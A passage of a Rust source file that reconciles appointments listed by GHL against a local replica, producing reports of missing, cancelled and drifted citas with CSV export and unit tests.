//! Daily reconciliation, the pure part: compare what GHL lists with what the
//! replica holds over the same window and say where they disagree. No I/O:
//! the caller fetches GHL's events (one call per calendar per window), reads
//! the replica and the outbox, and stores or exports the report.
//!
//! The report keeps the seed's Spanish keys (`fecha`, `faltantes_local`,
//! `canceladas_no_actualizadas`, `desincronizadas` with `campo`/`local`/`ghl`)
//! and adds `faltantes_remoto`. Citas are matched by id across every calendar,
//! so a cita moved to another calendar is one `desincronizadas` line with a
//! `calendar` difference, never a missing plus an extra.

use std::collections::{HashMap, HashSet};

use chrono::{DateTime, NaiveDate, Utc};
use chrono_tz::Tz;
use serde::{Deserialize, Serialize};
use ts_rs::TS;

use crate::cita::CitaRow;
use crate::time;

/// What to do with a cita that is only in the replica and whose id has a
/// write still pending in the outbox (typically a create GHL has not accepted
/// yet).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum PendingNotInGhl {
    /// Not reported: the outbox may still deliver it. The default, and what
    /// the daily run uses. Outbox items GHL *refused* are not pending: leave
    /// them out of `pending_ids` and they are reported in `faltantes_remoto`.
    #[default]
    Skip,
    /// Reported in `faltantes_remoto` (e.g. the caller passes every id in the
    /// outbox, refused or not, and wants all that GHL lacks listed).
    #[cfg_attr(not(test), allow(dead_code))]
    Report,
}

/// One cita in a report: enough to find it on the agenda.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct ReportLine {
    pub id: String,
    pub calendar_id: String,
    /// `YYYY-MM-DDTHH:MM:SS` in the location's zone.
    pub start_local: String,
    pub title: String,
    pub status: String,
    pub contact_id: Option<String>,
    /// How it reached the desk and what became of it (absent keys: found by
    /// the comparison, not fixed).
    #[serde(flatten)]
    #[ts(flatten)]
    pub notes: LineNotes,
}

/// Who fixed a line of a stored report, how, and when (RFC 3339, UTC).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct LineFix {
    pub action: String,
    pub by: String,
    pub at: String,
}

/// What a report line says beyond the cita: how the desk learnt of it and
/// who fixed it. Flattened into both kinds of line.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct LineNotes {
    /// How the desk learnt of it: absent when the comparison found it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(optional)]
    pub via: Option<Via>,
    /// A pull found it while the relay was connected: GHL dropped its webhook.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    #[ts(as = "Option<bool>", optional)]
    pub lost_webhook: bool,
    /// Who fixed it and how (a stored report's line, once fixed).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(optional)]
    pub fixed: Option<LineFix>,
}

/// How a difference reached the desk before a report listed it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum Via {
    /// A webhook through the relay: applied live.
    Webhook,
    /// The pull sync found it.
    Pull,
}

/// A field reconciliation compares.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum Campo {
    Start,
    End,
    Status,
    Calendar,
    Contact,
    Title,
    AssignedUser,
}

/// One field that differs: the replica's value and GHL's. Times are
/// `YYYY-MM-DDTHH:MM:SS` in the location's zone; ids are GHL ids; `null` when
/// the side has none.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct FieldDiff {
    pub campo: Campo,
    pub local: Option<String>,
    pub ghl: Option<String>,
}

/// A cita both sides have, with the fields that differ.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct DriftLine {
    pub id: String,
    /// GHL's calendar (the default truth); the replica's is in `diferencias`
    /// when it differs.
    pub calendar_id: String,
    /// GHL's start, `YYYY-MM-DDTHH:MM:SS` in the location's zone.
    pub start_local: String,
    /// GHL's title.
    pub title: String,
    /// In the order start, end, status, calendar, contact, title, assigned user.
    pub diferencias: Vec<FieldDiff>,
    /// How it reached the desk and what became of it (absent keys: found by
    /// the comparison, not fixed).
    #[serde(flatten)]
    #[ts(flatten)]
    pub notes: LineNotes,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct ReportCounts {
    pub faltantes_local: u32,
    pub canceladas_no_actualizadas: u32,
    pub desincronizadas: u32,
    pub faltantes_remoto: u32,
    pub total: u32,
}

impl ReportCounts {
    /// The counts of the four lists' lengths, in the seed's order.
    fn of(
        faltantes_local: usize,
        canceladas: usize,
        desincronizadas: usize,
        faltantes_remoto: usize,
    ) -> Self {
        let n = |len: usize| len as u32;
        ReportCounts {
            faltantes_local: n(faltantes_local),
            canceladas_no_actualizadas: n(canceladas),
            desincronizadas: n(desincronizadas),
            faltantes_remoto: n(faltantes_remoto),
            total: n(faltantes_local + canceladas + desincronizadas + faltantes_remoto),
        }
    }
}

/// The four lists, each sorted by start then id.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ReconciliationDiff {
    /// In GHL, missing here. The lines show GHL's version.
    pub faltantes_local: Vec<ReportLine>,
    /// Cancelled in GHL, still active here. The lines show the replica's
    /// version (the cita still on the agenda), so `status` is the local one.
    pub canceladas_no_actualizadas: Vec<ReportLine>,
    /// Both have it and fields differ.
    pub desincronizadas: Vec<DriftLine>,
    /// Here, not in GHL (deleted in GHL, or a create GHL refused). The lines
    /// show the replica's version.
    pub faltantes_remoto: Vec<ReportLine>,
}

impl ReconciliationDiff {
    pub fn counts(&self) -> ReportCounts {
        ReportCounts::of(
            self.faltantes_local.len(),
            self.canceladas_no_actualizadas.len(),
            self.desincronizadas.len(),
            self.faltantes_remoto.len(),
        )
    }

    pub fn is_empty(&self) -> bool {
        self.counts().total == 0
    }
}

/// One reconciliation run of one location, as stored, shown and exported.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct ReconciliationReport {
    /// The stored report's number (absent before it is stored).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(type = "number | null", optional)]
    pub id: Option<i64>,
    /// `YYYY-MM-DD` in the location's zone.
    pub fecha: String,
    pub location_id: String,
    /// RFC 3339 instants in UTC, `[window_start, window_end)`.
    pub window_start: String,
    pub window_end: String,
    pub faltantes_local: Vec<ReportLine>,
    pub canceladas_no_actualizadas: Vec<ReportLine>,
    pub desincronizadas: Vec<DriftLine>,
    pub faltantes_remoto: Vec<ReportLine>,
    pub counts: ReportCounts,
    pub ghl_calls: u32,
    #[ts(type = "number")]
    pub duration_ms: u64,
    /// Time spent comparing (the rest is GHL and SQLite), in microseconds.
    #[serde(default)]
    #[ts(type = "number")]
    pub diff_us: u64,
    /// Citas compared, both sides together.
    #[serde(default)]
    pub compared: u32,
    /// Differences the desk healed since the last daily report (listed
    /// above with `via`), how many arrived live, and how many only a pull
    /// found while the relay was connected (webhooks GHL dropped).
    #[serde(default)]
    pub healed: u32,
    #[serde(default)]
    pub live_changes: u32,
    #[serde(default)]
    pub lost_webhooks: u32,
}

impl ReconciliationReport {
    /// `fecha` is the run's date in the location's zone
    /// (`time::today_in(zone, now)` for a run now).
    pub fn new(
        location_id: &str,
        fecha: NaiveDate,
        window: (DateTime<Utc>, DateTime<Utc>),
        diff: ReconciliationDiff,
        ghl_calls: u32,
        duration_ms: u64,
    ) -> Self {
        let counts = diff.counts();
        Self {
            id: None,
            fecha: fecha.format("%Y-%m-%d").to_string(),
            location_id: location_id.to_string(),
            window_start: time::utc_string(window.0),
            window_end: time::utc_string(window.1),
            faltantes_local: diff.faltantes_local,
            canceladas_no_actualizadas: diff.canceladas_no_actualizadas,
            desincronizadas: diff.desincronizadas,
            faltantes_remoto: diff.faltantes_remoto,
            counts,
            ghl_calls,
            duration_ms,
            diff_us: 0,
            compared: 0,
            healed: 0,
            live_changes: 0,
            lost_webhooks: 0,
        }
    }

    /// No differences: what the CLI's exit status and the notification test.
    pub fn is_clean(&self) -> bool {
        self.counts.total == 0
    }
}

/// Compares GHL's citas with the replica's over the same window.
///
/// - in GHL only → `faltantes_local`;
/// - cancelled in GHL, any other status here → `canceladas_no_actualizadas`
///   only (other differences of that cita are not listed: the fix cancels it);
/// - in both with differing fields → `desincronizadas` (start/end compared to
///   the millisecond, as the replica stores them; status, ids and title as
///   exact strings);
/// - here only → `faltantes_remoto`.
///
/// Ids in `pending_ids` (outbox writes GHL has not accepted yet) are never
/// reported as drift, missing locally or cancelled; when only the replica has
/// them, `pending_not_in_ghl` decides. An id listed twice on one side (a cita
/// straddling two listing windows) counts once; if the copies differ, the
/// smallest by `Ord` is kept, so input order never changes the report.
pub fn diff(
    ghl: &[CitaRow],
    local: &[CitaRow],
    pending_ids: &HashSet<String>,
    zone: Tz,
    pending_not_in_ghl: PendingNotInGhl,
) -> ReconciliationDiff {
    let ghl = by_id(ghl);
    let local = by_id(local);

    let mut faltantes_local = Vec::new();
    let mut canceladas = Vec::new();
    let mut desincronizadas = Vec::new();
    let mut faltantes_remoto = Vec::new();

    for (id, g) in &ghl {
        let pending = pending_ids.contains(*id);
        match local.get(id) {
            None if !pending => faltantes_local.push((g.start, line(g, zone))),
            None => {}
            Some(_) if pending => {}
            Some(l) if g.is_cancelled() && !l.is_cancelled() => {
                canceladas.push((l.start, line(l, zone)))
            }
            Some(l) => {
                let diferencias = field_diffs(l, g, zone);
                if !diferencias.is_empty() {
                    desincronizadas.push((
                        g.start,
                        DriftLine {
                            id: g.id.clone(),
                            calendar_id: g.calendar_id.clone(),
                            start_local: time::local_string(g.start, zone),
                            title: g.title.clone(),
                            diferencias,
                            notes: LineNotes::default(),
                        },
                    ));
                }
            }
        }
    }
    for (id, l) in &local {
        if ghl.contains_key(id) {
            continue;
        }
        if pending_ids.contains(*id) && pending_not_in_ghl == PendingNotInGhl::Skip {
            continue;
        }
        faltantes_remoto.push((l.start, line(l, zone)));
    }

    ReconciliationDiff {
        faltantes_local: sorted(faltantes_local, |l| &l.id),
        canceladas_no_actualizadas: sorted(canceladas, |l| &l.id),
        desincronizadas: sorted(desincronizadas, |l| &l.id),
        faltantes_remoto: sorted(faltantes_remoto, |l| &l.id),
    }
}

fn by_id(citas: &[CitaRow]) -> HashMap<&str, &CitaRow> {
    let mut map: HashMap<&str, &CitaRow> = HashMap::with_capacity(citas.len());
    for c in citas {
        map.entry(c.id.as_str())
            .and_modify(|kept| {
                if c < *kept {
                    *kept = c;
                }
            })
            .or_insert(c);
    }
    map
}

fn sorted<T>(mut v: Vec<(DateTime<Utc>, T)>, id: impl Fn(&T) -> &String) -> Vec<T> {
    v.sort_by(|a, b| a.0.cmp(&b.0).then_with(|| id(&a.1).cmp(id(&b.1))));
    v.into_iter().map(|(_, t)| t).collect()
}

fn line(c: &CitaRow, zone: Tz) -> ReportLine {
    ReportLine {
        id: c.id.clone(),
        calendar_id: c.calendar_id.clone(),
        start_local: time::local_string(c.start, zone),
        title: c.title.clone(),
        status: c.status.clone(),
        contact_id: c.contact_id.clone(),
        notes: LineNotes::default(),
    }
}

fn field_diffs(l: &CitaRow, g: &CitaRow, zone: Tz) -> Vec<FieldDiff> {
    let mut out = Vec::new();
    let mut time_field = |campo, a: DateTime<Utc>, b: DateTime<Utc>| {
        if a.timestamp_millis() != b.timestamp_millis() {
            out.push(FieldDiff {
                campo,
                local: Some(time::local_string(a, zone)),
                ghl: Some(time::local_string(b, zone)),
            });
        }
    };
    time_field(Campo::Start, l.start, g.start);
    time_field(Campo::End, l.end, g.end);
    let mut text_field = |campo, a: Option<&str>, b: Option<&str>| {
        if a != b {
            out.push(FieldDiff {
                campo,
                local: a.map(str::to_string),
                ghl: b.map(str::to_string),
            });
        }
    };
    text_field(Campo::Status, Some(&l.status), Some(&g.status));
    text_field(Campo::Calendar, Some(&l.calendar_id), Some(&g.calendar_id));
    text_field(
        Campo::Contact,
        l.contact_id.as_deref(),
        g.contact_id.as_deref(),
    );
    text_field(Campo::Title, Some(&l.title), Some(&g.title));
    text_field(
        Campo::AssignedUser,
        l.assigned_user_id.as_deref(),
        g.assigned_user_id.as_deref(),
    );
    out
}

/// Which of the report's lists a change the desk applied belongs to, when
/// it is a difference at all: a cita that appeared (`before` none), went
/// (`after` none), was cancelled while active, or changed a compared field.
pub fn healed_line(
    before: Option<&CitaRow>,
    after: Option<&CitaRow>,
    zone: Tz,
) -> Option<HealedLine> {
    match (before, after) {
        (None, Some(a)) => Some(HealedLine::Line(Category::FaltantesLocal, line(a, zone))),
        (Some(b), None) => Some(HealedLine::Line(Category::FaltantesRemoto, line(b, zone))),
        (Some(b), Some(a)) if a.is_cancelled() && !b.is_cancelled() => Some(HealedLine::Line(
            Category::CanceladasNoActualizadas,
            line(b, zone),
        )),
        (Some(b), Some(a)) => {
            let diferencias = field_diffs(b, a, zone);
            (!diferencias.is_empty()).then(|| {
                HealedLine::Drift(DriftLine {
                    id: a.id.clone(),
                    calendar_id: a.calendar_id.clone(),
                    start_local: time::local_string(a.start, zone),
                    title: a.title.clone(),
                    diferencias,
                    notes: LineNotes::default(),
                })
            })
        }
        (None, None) => None,
    }
}

/// The report's lists, by the seed's keys.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Category {
    FaltantesLocal,
    CanceladasNoActualizadas,
    Desincronizadas,
    FaltantesRemoto,
}

impl Category {
    pub fn as_str(self) -> &'static str {
        match self {
            Category::FaltantesLocal => "faltantes_local",
            Category::CanceladasNoActualizadas => "canceladas_no_actualizadas",
            Category::Desincronizadas => "desincronizadas",
            Category::FaltantesRemoto => "faltantes_remoto",
        }
    }
}

/// A healed change as a report line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HealedLine {
    Line(Category, ReportLine),
    Drift(DriftLine),
}

impl HealedLine {
    pub fn category(&self) -> Category {
        match self {
            HealedLine::Line(c, _) => *c,
            HealedLine::Drift(_) => Category::Desincronizadas,
        }
    }

    pub fn id(&self) -> &str {
        match self {
            HealedLine::Line(_, l) => &l.id,
            HealedLine::Drift(d) => &d.id,
        }
    }
}

impl ReconciliationReport {
    /// Marks the lines fixed since the report was made.
    pub fn attach_fixes(&mut self, fixes: &HashMap<String, LineFix>) {
        for l in self
            .faltantes_local
            .iter_mut()
            .chain(self.canceladas_no_actualizadas.iter_mut())
            .chain(self.faltantes_remoto.iter_mut())
        {
            l.notes.fixed = fixes.get(&l.id).cloned();
        }
        for l in &mut self.desincronizadas {
            l.notes.fixed = fixes.get(&l.id).cloned();
        }
    }

    /// Puts the healed lines first in their lists (a line the comparison
    /// also found is listed once), and recounts.
    pub fn add_healed(&mut self, healed: Vec<(HealedLine, Via, bool)>) {
        let mut seen: HashSet<String> = HashSet::new();
        let mut plain: [Vec<ReportLine>; 3] = Default::default();
        let mut drift = Vec::new();
        for (line, via, lost) in healed {
            if !seen.insert(line.id().to_string()) {
                continue;
            }
            self.healed += 1;
            if via == Via::Webhook {
                self.live_changes += 1;
            }
            if lost {
                self.lost_webhooks += 1;
            }
            match line {
                HealedLine::Line(cat, mut l) => {
                    l.notes.via = Some(via);
                    l.notes.lost_webhook = lost;
                    let k = match cat {
                        Category::FaltantesLocal => 0,
                        Category::CanceladasNoActualizadas => 1,
                        _ => 2,
                    };
                    plain[k].push(l);
                }
                HealedLine::Drift(mut d) => {
                    d.notes.via = Some(via);
                    d.notes.lost_webhook = lost;
                    drift.push(d);
                }
            }
        }
        let keep = |v: &mut Vec<ReportLine>, mut first: Vec<ReportLine>| {
            first.extend(v.drain(..).filter(|l| !seen.contains(&l.id)));
            *v = first;
        };
        let [fl, cn, fr] = plain;
        keep(&mut self.faltantes_local, fl);
        keep(&mut self.canceladas_no_actualizadas, cn);
        keep(&mut self.faltantes_remoto, fr);
        drift.extend(
            self.desincronizadas
                .drain(..)
                .filter(|l| !seen.contains(&l.id)),
        );
        self.desincronizadas = drift;
        self.counts = ReportCounts::of(
            self.faltantes_local.len(),
            self.canceladas_no_actualizadas.len(),
            self.desincronizadas.len(),
            self.faltantes_remoto.len(),
        );
    }
}

/// One CSV cell: quoted as RFC 4180, and a cell a spreadsheet would run as
/// a formula starts with `'` instead (every export of the crate uses it).
pub(crate) fn csv_field(v: &str) -> String {
    let v = if v.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{v}"))
    } else {
        std::borrow::Cow::Borrowed(v)
    };
    if v.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v.into_owned()
    }
}

/// The report as CSV, one row per finding (a drift line gives one row per
/// differing field), for spreadsheets. Quotes as RFC 4180; a cell a
/// spreadsheet would run as a formula (titles and values come from GHL,
/// anyone can type them) starts with `'` instead.
pub fn to_csv(report: &ReconciliationReport) -> String {
    let field = csv_field;
    let mut out =
        String::from("fecha,categoria,id,calendar_id,start_local,title,status,campo,local,ghl\n");
    let mut row = |cat: &str,
                   id: &str,
                   cal: &str,
                   start: &str,
                   title: &str,
                   status: &str,
                   diff: Option<&FieldDiff>| {
        let campo = diff.map(|d| {
            serde_json::to_value(d.campo)
                .ok()
                .and_then(|v| v.as_str().map(str::to_string))
                .unwrap_or_default()
        });
        let cols = [
            report.fecha.as_str(),
            cat,
            id,
            cal,
            start,
            title,
            status,
            campo.as_deref().unwrap_or(""),
            diff.and_then(|d| d.local.as_deref()).unwrap_or(""),
            diff.and_then(|d| d.ghl.as_deref()).unwrap_or(""),
        ];
        out.push_str(&cols.iter().map(|c| field(c)).collect::<Vec<_>>().join(","));
        out.push('\n');
    };
    for (cat, lines) in [
        ("faltantes_local", &report.faltantes_local),
        (
            "canceladas_no_actualizadas",
            &report.canceladas_no_actualizadas,
        ),
        ("faltantes_remoto", &report.faltantes_remoto),
    ] {
        for l in lines {
            row(
                cat,
                &l.id,
                &l.calendar_id,
                &l.start_local,
                &l.title,
                &l.status,
                None,
            );
        }
    }
    for d in &report.desincronizadas {
        for f in &d.diferencias {
            row(
                "desincronizadas",
                &d.id,
                &d.calendar_id,
                &d.start_local,
                &d.title,
                "",
                Some(f),
            );
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cita::CANCELLED;
    use chrono::Duration;
    use citadesk_ghl::models::Appointment;

    fn lima() -> Tz {
        time::parse_zone("America/Lima").unwrap()
    }

    /// A 30-minute cita at a wall time in Lima.
    fn snap(id: &str, cal: &str, wall: &str) -> CitaRow {
        let start = time::parse_ghl_time(wall, lima()).unwrap();
        CitaRow {
            id: id.into(),
            location_id: "loc-1".into(),
            calendar_id: cal.into(),
            contact_id: Some(format!("contact-{id}")),
            assigned_user_id: Some("u-1".into()),
            title: format!("Consulta {id}"),
            status: "confirmed".into(),
            start,
            end: start + Duration::minutes(30),
            date_updated: None,
            raw: "{}".into(),
        }
    }

    fn run(ghl: &[CitaRow], local: &[CitaRow]) -> ReconciliationDiff {
        diff(ghl, local, &HashSet::new(), lima(), PendingNotInGhl::Skip)
    }

    fn ids(lines: &[ReportLine]) -> Vec<&str> {
        lines.iter().map(|l| l.id.as_str()).collect()
    }

    #[test]
    fn reconcile_identical_sides_report_nothing() {
        let a = vec![
            snap("a", "cal-1", "2026-11-23T09:00:00"),
            snap("b", "cal-2", "2026-11-23T10:00:00"),
        ];
        let d = run(&a, &a);
        assert!(d.is_empty());
        assert_eq!(d.counts(), ReportCounts::default());
    }

    #[test]
    fn reconcile_faltantes_local() {
        let shared = snap("a", "cal-1", "2026-11-23T09:00:00");
        let only_ghl = snap("n", "cal-1", "2026-11-23T11:00:00");
        let d = run(&[shared.clone(), only_ghl], &[shared]);
        assert_eq!(
            d.faltantes_local,
            vec![ReportLine {
                id: "n".into(),
                calendar_id: "cal-1".into(),
                start_local: "2026-11-23T11:00:00".into(),
                title: "Consulta n".into(),
                status: "confirmed".into(),
                contact_id: Some("contact-n".into()),
                notes: LineNotes::default(),
            }]
        );
        assert_eq!(d.counts().total, 1);
    }

    #[test]
    fn reconcile_canceladas_no_actualizadas_not_also_drift() {
        let local = snap("a", "cal-1", "2026-11-23T09:00:00");
        let mut ghl = local.clone();
        ghl.status = CANCELLED.into();
        ghl.title = "Cancelada por el paciente".into();
        let d = run(&[ghl], std::slice::from_ref(&local));
        assert_eq!(ids(&d.canceladas_no_actualizadas), ["a"]);
        // The line shows the cita still on the agenda.
        assert_eq!(d.canceladas_no_actualizadas[0].status, "confirmed");
        assert_eq!(d.canceladas_no_actualizadas[0].title, "Consulta a");
        assert!(d.desincronizadas.is_empty());
        assert_eq!(d.counts().total, 1);

        // Cancelled on both sides: nothing to fix.
        let mut both = local.clone();
        both.status = CANCELLED.into();
        assert!(run(std::slice::from_ref(&both), std::slice::from_ref(&both)).is_empty());
        // Cancelled here, active in GHL: a status drift, not a cancellation.
        let d = run(&[local], &[both]);
        assert!(d.canceladas_no_actualizadas.is_empty());
        assert_eq!(d.desincronizadas[0].diferencias[0].campo, Campo::Status);
    }

    #[test]
    fn reconcile_desincronizadas_lists_every_field_with_both_values() {
        let local = snap("a", "cal-1", "2026-11-23T09:00:00");
        let mut ghl = local.clone();
        ghl.start += Duration::minutes(60);
        ghl.end += Duration::minutes(90);
        ghl.status = "showed".into();
        ghl.calendar_id = "cal-2".into();
        ghl.contact_id = None;
        ghl.title = "Control".into();
        ghl.assigned_user_id = Some("u-2".into());
        let d = run(&[ghl], &[local]);
        assert_eq!(d.counts().total, 1);
        let line = &d.desincronizadas[0];
        assert_eq!(line.calendar_id, "cal-2");
        assert_eq!(line.start_local, "2026-11-23T10:00:00");
        let got: Vec<(Campo, Option<&str>, Option<&str>)> = line
            .diferencias
            .iter()
            .map(|f| (f.campo, f.local.as_deref(), f.ghl.as_deref()))
            .collect();
        assert_eq!(
            got,
            vec![
                (
                    Campo::Start,
                    Some("2026-11-23T09:00:00"),
                    Some("2026-11-23T10:00:00")
                ),
                (
                    Campo::End,
                    Some("2026-11-23T09:30:00"),
                    Some("2026-11-23T11:00:00")
                ),
                (Campo::Status, Some("confirmed"), Some("showed")),
                (Campo::Calendar, Some("cal-1"), Some("cal-2")),
                (Campo::Contact, Some("contact-a"), None),
                (Campo::Title, Some("Consulta a"), Some("Control")),
                (Campo::AssignedUser, Some("u-1"), Some("u-2")),
            ]
        );
    }

    #[test]
    fn reconcile_faltantes_remoto() {
        let shared = snap("a", "cal-1", "2026-11-23T09:00:00");
        let refused = snap("local-1", "cal-1", "2026-11-23T12:00:00");
        let d = run(std::slice::from_ref(&shared), &[shared.clone(), refused]);
        assert_eq!(ids(&d.faltantes_remoto), ["local-1"]);
        assert_eq!(d.faltantes_remoto[0].start_local, "2026-11-23T12:00:00");
        assert_eq!(d.counts().total, 1);
    }

    #[test]
    fn reconcile_moved_to_another_calendar_is_one_drift_line() {
        let local = snap("a", "cal-1", "2026-11-23T09:00:00");
        let mut ghl = local.clone();
        ghl.calendar_id = "cal-2".into();
        let d = run(&[ghl], &[local]);
        assert!(d.faltantes_local.is_empty() && d.faltantes_remoto.is_empty());
        assert_eq!(
            d.desincronizadas,
            vec![DriftLine {
                id: "a".into(),
                calendar_id: "cal-2".into(),
                start_local: "2026-11-23T09:00:00".into(),
                title: "Consulta a".into(),
                diferencias: vec![FieldDiff {
                    campo: Campo::Calendar,
                    local: Some("cal-1".into()),
                    ghl: Some("cal-2".into()),
                }],
                notes: LineNotes::default(),
            }]
        );
    }

    #[test]
    fn reconcile_late_evening_in_lima_stays_on_its_day() {
        // 23:30 in Lima is 04:30 UTC the next day.
        let local = snap("late", "cal-1", "2026-11-23T23:30:00");
        assert_eq!(time::utc_string(local.start), "2026-11-24T04:30:00Z");
        let mut ghl = local.clone();
        ghl.start += Duration::minutes(15);
        ghl.end += Duration::minutes(15);
        let missing = snap("late-2", "cal-1", "2026-11-23T23:30:00");
        let d = run(&[ghl, missing], &[local]);
        assert_eq!(d.faltantes_local[0].start_local, "2026-11-23T23:30:00");
        let start = &d.desincronizadas[0].diferencias[0];
        assert_eq!(start.campo, Campo::Start);
        assert_eq!(start.local.as_deref(), Some("2026-11-23T23:30:00"));
        assert_eq!(start.ghl.as_deref(), Some("2026-11-23T23:45:00"));
        let end = &d.desincronizadas[0].diferencias[1];
        assert_eq!(end.local.as_deref(), Some("2026-11-24T00:00:00"));

        // A run at 23:30 Lima is dated that day, not the UTC day after.
        let run_at = time::parse_ghl_time("2026-11-23T23:30:00-05:00", lima()).unwrap();
        let fecha = time::today_in(lima(), run_at);
        let (from, to) = time::days_range(fecha - Duration::days(1), 32, lima());
        let report = ReconciliationReport::new("loc-1", fecha, (from, to), d, 20, 5);
        assert_eq!(report.fecha, "2026-11-23");
        assert_eq!(report.window_start, "2026-11-22T05:00:00Z");
        assert_eq!(report.window_end, "2026-12-24T05:00:00Z");
    }

    #[test]
    fn reconcile_status_only_change() {
        let local = snap("a", "cal-1", "2026-11-23T09:00:00");
        let mut ghl = local.clone();
        // A value outside GHL's documented enum is compared as a string.
        ghl.status = "completed".into();
        let d = run(&[ghl], &[local]);
        assert_eq!(
            d.desincronizadas[0].diferencias,
            vec![FieldDiff {
                campo: Campo::Status,
                local: Some("confirmed".into()),
                ghl: Some("completed".into()),
            }]
        );
        assert_eq!(d.counts().total, 1);
    }

    #[test]
    fn reconcile_deleted_in_ghl() {
        let kept = snap("a", "cal-1", "2026-11-23T09:00:00");
        let deleted = snap("gone", "cal-2", "2026-11-24T08:00:00");
        let d = run(std::slice::from_ref(&kept), &[deleted, kept.clone()]);
        assert_eq!(ids(&d.faltantes_remoto), ["gone"]);
        assert_eq!(d.faltantes_remoto[0].calendar_id, "cal-2");
        assert_eq!(d.faltantes_remoto[0].start_local, "2026-11-24T08:00:00");
        assert_eq!(d.counts().total, 1);
    }

    #[test]
    fn reconcile_pending_outbox_ids_are_not_drift() {
        let edited_here = snap("edit", "cal-1", "2026-11-23T09:00:00");
        let mut ghl_edit = edited_here.clone();
        ghl_edit.title = "old title".into();
        let mut cancelled_in_ghl = snap("cancel", "cal-1", "2026-11-23T10:00:00");
        let active_here = cancelled_in_ghl.clone();
        cancelled_in_ghl.status = CANCELLED.into();
        let deleted_here = snap("del", "cal-1", "2026-11-23T11:00:00");
        let created_here = snap("new-local", "cal-1", "2026-11-23T12:00:00");
        let refused = snap("refused", "cal-1", "2026-11-23T13:00:00");

        let ghl = vec![ghl_edit, cancelled_in_ghl, deleted_here];
        let local = vec![edited_here, active_here, created_here, refused];
        let pending: HashSet<String> = ["edit", "cancel", "del", "new-local"]
            .map(String::from)
            .into();

        let d = diff(&ghl, &local, &pending, lima(), PendingNotInGhl::Skip);
        // Only the item GHL refused (no longer pending) is reported.
        assert_eq!(ids(&d.faltantes_remoto), ["refused"]);
        assert_eq!(d.counts().total, 1);

        let d = diff(&ghl, &local, &pending, lima(), PendingNotInGhl::Report);
        assert_eq!(ids(&d.faltantes_remoto), ["new-local", "refused"]);
        assert_eq!(d.counts().total, 2);
    }

    /// Fisher-Yates with a fixed linear congruential generator.
    fn shuffled<T: Clone>(v: &[T], seed: u64) -> Vec<T> {
        let mut v = v.to_vec();
        let mut x = seed;
        for i in (1..v.len()).rev() {
            x = x
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            v.swap(i, (x >> 33) as usize % (i + 1));
        }
        v
    }

    #[test]
    fn reconcile_is_deterministic() {
        let mut ghl = Vec::new();
        let mut local = Vec::new();
        for i in 0..60 {
            // Same start for several citas, so the id breaks ties.
            let wall = format!("2026-11-{:02}T09:00:00", 20 + i % 5);
            let c = snap(&format!("c{i:02}"), &format!("cal-{}", i % 3), &wall);
            let mut g = c.clone();
            match i % 6 {
                0 => {
                    ghl.push(g);
                    continue;
                }
                1 => {
                    local.push(c);
                    continue;
                }
                2 => g.status = CANCELLED.into(),
                3 => g.title = "otro".into(),
                _ => {}
            }
            ghl.push(g);
            local.push(c);
        }
        // The same cita listed twice (it straddles two listing windows), and a
        // differing duplicate: the outcome must not depend on order.
        ghl.push(ghl[3].clone());
        let mut odd = local[4].clone();
        odd.title = "duplicate".into();
        local.push(odd);

        let pending = HashSet::new();
        let base = diff(&ghl, &local, &pending, lima(), PendingNotInGhl::Skip);
        assert!(base.counts().total > 0);
        for seed in 1..6 {
            let again = diff(
                &shuffled(&ghl, seed),
                &shuffled(&local, seed * 7),
                &pending,
                lima(),
                PendingNotInGhl::Skip,
            );
            assert_eq!(again, base, "seed {seed}");
        }
        for list in [&base.faltantes_local, &base.faltantes_remoto] {
            let keys: Vec<_> = list.iter().map(|l| (&l.start_local, &l.id)).collect();
            assert!(keys.windows(2).all(|w| w[0] < w[1]), "{keys:?}");
        }
    }

    fn keys(v: &serde_json::Value) -> Vec<&str> {
        let mut k: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
        k.sort_unstable();
        k
    }

    #[test]
    fn reconcile_json_keeps_the_seed_keys() {
        let a = snap("a", "cal-1", "2026-11-23T09:00:00");
        let mut a_ghl = a.clone();
        a_ghl.calendar_id = "cal-2".into();
        let b = snap("b", "cal-1", "2026-11-23T10:00:00");
        let mut b_ghl = b.clone();
        b_ghl.status = CANCELLED.into();
        let only_ghl = snap("c", "cal-1", "2026-11-23T11:00:00");
        let only_here = snap("d", "cal-1", "2026-11-23T12:00:00");
        let d = run(&[a_ghl, b_ghl, only_ghl], &[a, b, only_here]);
        let fecha = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
        let (from, to) = time::days_range(fecha, 31, lima());
        let report = ReconciliationReport::new("loc-1", fecha, (from, to), d, 40, 1234);
        let json = serde_json::to_value(&report).unwrap();
        assert_eq!(
            keys(&json),
            [
                "canceladas_no_actualizadas",
